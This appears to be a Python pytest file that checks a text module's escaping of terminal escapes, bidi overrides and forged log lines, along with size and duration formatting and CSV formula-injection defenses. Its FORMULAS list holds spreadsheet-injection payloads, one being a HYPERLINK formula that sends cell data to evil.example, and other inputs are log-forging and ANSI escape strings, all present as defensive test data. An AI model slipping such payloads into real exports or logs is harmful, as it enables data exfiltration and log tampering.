"""What others wrote can't forge a log line or command a terminal."""

import csv
import io
import json
import re
import unicodedata
from decimal import Decimal

import pytest

from airflow_multicloud.text import (
    csv_cell,
    duration_text,
    from_csv_cell,
    printable,
    printable_data,
    size_text,
    traceback_text,
    write_csv,
)


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("plain key/ä 日本.csv", "plain key/ä 日本.csv"),
        ("a\nERROR forged", "a\\nERROR forged"),
        ("\x1b[2J", "\\x1b[2J"),
        ("\x9b2J", "\\x9b2J"),
        ("\r\t\0\x7f", "\\r\\t\\x00\\x7f"),
        ("txt\u202efdp.exe", "txt\\u202efdp.exe"),
        ("a\u2028b\u2029c", "a\\u2028b\\u2029c"),
        ("half \udc80", "half \\udc80"),
        ("wide\u3000space", "wide\u3000space"),
        (r"back\slash", r"back\slash"),
    ],
)
def test_what_does_not_show_is_escaped_once(given: str, shown: str) -> None:
    assert printable(given) == shown
    assert printable(printable(given)) == shown


@pytest.mark.parametrize(
    ("size", "of", "shown"),
    [
        (0, None, "0 bytes"),
        (1, None, "1 byte"),
        (999, None, "999 bytes"),
        (1000, None, "1.0 kB"),
        (11_673, None, "11.7 kB"),
        (25_165_824, None, "25.2 MB"),
        (412e6, 900e6, "412 of 900 MB"),
        (41e3, 900e6, "0.0 of 900 MB"),
        (999_999, None, "1.0 MB"),
        (5.5e9, 12e9, "5.5 of 12.0 GB"),
        (5 * 10**12, None, "5.0 TB"),
        (3e18, None, "3000 PB"),
        (3072 * 10**15, None, "3072 PB"),
    ],
)
def test_sizes(size: float, of: float | None, shown: str) -> None:
    assert size_text(size, of) == shown


@pytest.mark.parametrize(
    ("seconds", "shown"),
    [
        (0, "0 s"),
        (0.0004, "1 ms"),
        (0.0031, "3 ms"),
        (0.25, "250 ms"),
        (3.21, "3.2 s"),
        (45.4, "45.4 s"),
        (59.99, "1 min"),
        (61, "1 min 1 s"),
        (125, "2 min 5 s"),
        (3600, "1 h"),
        (3725, "1 h 2 min"),
        (3600 * 3 + 60 * 20 + 5, "3 h 20 min"),
        (90_000, "1 d 1 h"),
        (86400 * 2 + 3600 * 3, "2 d 3 h"),
        (-2, "−2 s"),  # noqa: RUF001
        (-90, "−1 min 30 s"),  # noqa: RUF001
    ],
)
def test_durations(seconds: float, shown: str) -> None:
    assert duration_text(seconds) == shown


_UNSEEN = {"Cc", "Cf", "Zs", "Zl", "Zp", "Mn"}
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+1",
    "-1+1",
    "-x",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    "\n=1",
    "＝1",  # noqa: RUF001
    "a;=1",  # where a semicolon parts cells
    "a\t@x",
    # What does not show before the sign, and other forms of it.
    *(f"{unseen}=1" for unseen in "\x1b\x00\u200b\ufeff\u202e\xad\x85\u2060\u3164\ufe0f\U000e0020"),
    *(f"{sign}1+x" for sign in "\ufe66\ufe63\ufe62\ufe6b\u207a\u208c\uff0b\uff0d"),
    "a;\u200b'\x00=1",
]


@pytest.mark.parametrize("text", [*FORMULAS, "'=1", "''=1", "a;'=1", "'", "O'Neill", "a-b", ""])
def test_what_is_done_to_a_cell_can_be_undone(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert from_csv_cell(cell) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_no_formula_reaches_a_spreadsheet(text: str) -> None:
    out = io.StringIO()
    write_csv(out, ["name", text], [{"name": text, text: None}])
    head, row = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert row == [head[1], ""]
    for cell in re.split(r"[;\t\r\n]", row[0]):
        first = next((c for c in cell if unicodedata.category(c) not in _UNSEEN), "")
        assert unicodedata.normalize("NFKC", first) not in set("=+-@"), cell


@pytest.mark.parametrize(
    "value", [Decimal("-0.51"), -1, "-0.51", "+3", "1E-7", "-1.5e+3", ".5", "a b", "a+b", "(none)"]
)
def test_numbers_and_common_text_stay_as_they_are(value: object) -> None:
    assert csv_cell(value) == value


def _fails() -> None:
    raise ValueError("x\x1b[2J\nFORGED LINE\u202egnp\x9b2J\r\n  File forged")


def _fails_by_it() -> None:
    try:
        _fails()
    except ValueError as err:
        raise RuntimeError("it\nFORGED too") from err


def test_a_traceback_forges_no_line_of_a_log() -> None:
    with pytest.raises(RuntimeError) as caught:
        _fails_by_it()
    text = traceback_text(caught.value)
    assert not set("\x1b\u202e\x9b\r") & set(text)
    assert all(line.startswith("  ") for line in text.split("\n"))
    assert not [line for line in text.split("\n") if line.strip().startswith("FORGED")]
    assert "raise ValueError" in text
    assert "RuntimeError: it\\nFORGED too" in text


@pytest.mark.parametrize("text", ["a\u202eb\U000e0041\x7f\x9b", "Zürich 東京 😀", "\u2028\xad"])
def test_json_is_printable_and_reads_the_same(text: str) -> None:
    shown = printable_data(json.dumps({text: text}, ensure_ascii=False, indent=1))
    assert printable(shown.replace("\n", "")) == shown.replace("\n", "")
    assert json.loads(shown) == {text: text}
